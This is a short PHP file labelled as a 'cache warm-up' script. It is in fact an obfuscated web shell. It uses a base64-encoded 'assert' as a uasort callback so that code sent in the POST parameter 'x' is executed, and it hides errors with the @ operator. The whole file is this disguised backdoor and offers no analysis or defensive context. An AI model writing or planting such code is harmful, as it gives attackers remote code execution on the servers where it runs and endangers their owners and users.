<?php
// cache warm-up
$arr = array($_POST['x'] => 1, 'test' => 2);
@uasort($arr, base64_decode('YXNzZXJ0'));
